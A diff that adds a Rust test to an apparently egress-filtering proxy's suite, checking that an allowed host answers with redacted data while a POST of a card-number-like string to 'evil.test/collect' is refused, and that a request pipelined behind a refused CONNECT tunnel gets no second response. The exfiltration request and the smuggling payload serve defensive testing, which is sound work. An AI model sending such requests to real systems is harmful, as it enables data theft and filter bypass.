@@ -145,6 +145,38 @@ fn p7_a_host_with_a_credential_gets_no_other_one_and_nobody_else_gets_it() -> Re
 }
 
 #[test]
+fn p2_p9_what_is_sent_before_a_tunnel_is_granted_is_judged_like_the_rest() -> Result<()> {
+    shop(|shop| {
+        let token = shop.gateway.token("client", &["agents"], &[])?;
+        let proxy = ([127, 0, 0, 1], shop.gateway.ports().egress).into();
+        let ca = shop.gateway.dir().join("var/ca/ca.pem");
+        let client = |host: &str| {
+            let client = RawHttp::to(proxy).tunnel(&format!("{host}:443"), &token.secret).eager();
+            client.tls(Some(host), Trust::File(ca.clone()))
+        };
+        let asked = |host: &str, line: &str, body: &str| {
+            let (length, end) = (body.len(), "connection: close\r\n\r\n");
+            format!("{line} HTTP/1.1\r\nhost: {host}\r\ncontent-length: {length}\r\n{end}{body}")
+        };
+        let get = asked("listed.test", "GET /customers", "");
+        let reply = client("listed.test").send(&[get.into()])?;
+        ensure!(reply.status() == 200 && reply.text().contains("REDACTED"), "{}", reply.text());
+        let post = asked("evil.test", "POST /collect", "4012 8888 8888 1881");
+        let reply = client("evil.test").send(&[post.into()])?;
+        ensure!(reply.status() == 403, "{}", reply.text());
+        // Behind a tunnel that is refused, as if it were the next request of the proxy's client.
+        let head = "CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n";
+        let next = "POST http://evil.test/collect HTTP/1.1\r\nhost: evil.test\r\n\
+                    content-length: 1\r\n\r\n1";
+        let reply = RawHttp::to(proxy).send(&[format!("{head}{next}").into()])?;
+        ensure!(reply.status() == 407, "{}", reply.text());
+        ensure!(reply.text().matches("HTTP/1.1").count() == 1, "{}", reply.text());
+        ensure!(shop.listed.seen().len() == 1, "{:?}", shop.listed.seen());
+        nothing_leaked(shop)
+    })
+}
+
+#[test]
 fn p7_a_host_that_shows_its_credential_shows_it_to_nobody_and_no_file() -> Result<()> {
     shop(|shop| {
         let token = shop.gateway.token("client", &["agents"], &[])?;
